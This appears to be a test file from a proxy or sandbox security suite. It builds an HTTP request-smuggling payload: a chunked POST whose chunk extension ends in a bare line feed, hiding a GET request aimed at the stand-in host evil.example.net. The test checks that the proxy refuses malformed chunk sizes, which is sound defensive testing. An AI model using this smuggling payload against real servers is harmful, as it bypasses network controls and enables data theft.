# /// attack
# guarantee = "network"
# summary = "Smuggles a request behind a line feed in a chunk extension."
# reference = "RFC 9112, 7.1.1; CVE-2025-22871"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy a chunk's size must be a hexadecimal number alone" }
# ///

from kit import exchange, has_proxy, head, judge, refused, target, url

inner = head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
outer = head(f"POST {url('example.org', '/first')}", "Host: example.org", "Transfer-Encoding: chunked")
answer = exchange("example.org", outer + b"0;a\n\r\n" + inner)
if has_proxy() and not answer:
    refused("the connection ended")
judge(answer)
